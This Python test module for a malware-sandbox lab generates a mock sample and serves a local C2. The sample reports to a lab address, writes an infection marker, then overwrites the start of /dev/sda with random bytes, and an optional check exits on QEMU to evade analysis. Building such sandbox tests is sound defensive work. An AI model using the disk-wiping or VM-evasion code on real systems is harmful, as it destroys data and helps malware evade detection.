"""A sample for the lab's real CAPE: calls its C2, tells what it found there, and infects the host.

C2 is a web server in the lab's network, on an address of its own: a run whose report shows that
flow did run on the host, and what the sample tells there is what the host was like.
"""

from __future__ import annotations

import contextlib
import http.server
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

from cuckoo_zfsiscsi.lab import network as net
from cuckoo_zfsiscsi.lab.network import Network
from cuckoo_zfsiscsi.lab.watch import enter

ADDRESS, PORT = "10.99.0.66", 8666
MARKER = "/infected"
EVASION = """\
with open("/sys/class/dmi/id/sys_vendor") as file:
    if "QEMU" in file.read():
        os._exit(0)
"""
"""Ends on a machine that says it is virtual, see lab.qemu."""
SAMPLE = """\
# {name}
import os, time, urllib.request
{evasion}def tell(when):
    trace = "found" if os.path.exists("{marker}") else "none"
    url = "http://{address}:{port}/{name}?%s=%s" % (when, trace)
    print(urllib.request.urlopen(url, timeout=30).read())
tell("before")
with open("{marker}", "w") as file:
    file.write("{name}")
os.sync()
tell("after")
time.sleep({seconds})
disk = os.open("/dev/sda", os.O_WRONLY)
os.write(disk, os.urandom(1 << 20))
os.fsync(disk)
"""


@dataclass(frozen=True)
class Heard:
    """What a C2 server heard, by a sample's name."""

    told: dict[str, dict[str, str]] = field(default_factory=dict)
    """{"before": "none", "after": "found"} of a host that was clean before it."""
    callers: dict[str, set[str]] = field(default_factory=dict)
    """Addresses that it called from."""


def write(folder: Path, name: str, *, seconds: float = 1.0, evasive: bool = False) -> Path:
    """Write a sample that calls itself by this name; return its path.

    Args:
        folder: where.
        name: of the sample.
        seconds: that it waits before it destroys the disk's start.
        evasive: it does nothing of this on a virtual machine.
    """
    path = folder / f"{name}.py"
    path.write_text(
        SAMPLE.format(
            name=name,
            evasion=EVASION if evasive else "",
            marker=MARKER,
            address=ADDRESS,
            port=PORT,
            seconds=seconds,
        )
    )
    return path


@contextlib.contextmanager
def c2(network: Network) -> Iterator[Heard]:
    """Serve C2; yields what it hears."""
    network.run(
        ["ip", "address", "add", f"{ADDRESS}/{net.SERVER.network.prefixlen}", "dev", net.BRIDGE]
    )
    heard = Heard()

    class Server(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            url = urlsplit(self.path)
            name = url.path.strip("/")
            heard.told.setdefault(name, {}).update(parse_qsl(url.query))
            heard.callers.setdefault(name, set()).add(self.client_address[0])
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        def log_message(self, *_: Any) -> None:  # noqa: ANN401
            """Stay quiet."""

    servers: list[http.server.ThreadingHTTPServer] = []
    up = threading.Event()

    def serve() -> None:
        enter(network)
        with http.server.ThreadingHTTPServer((ADDRESS, PORT), Server) as server:
            servers.append(server)
            up.set()
            server.serve_forever()

    thread = threading.Thread(target=serve, name="c2", daemon=True)
    thread.start()
    up.wait(10)
    try:
        yield heard
    finally:
        for server in servers:
            server.shutdown()
        thread.join(10)
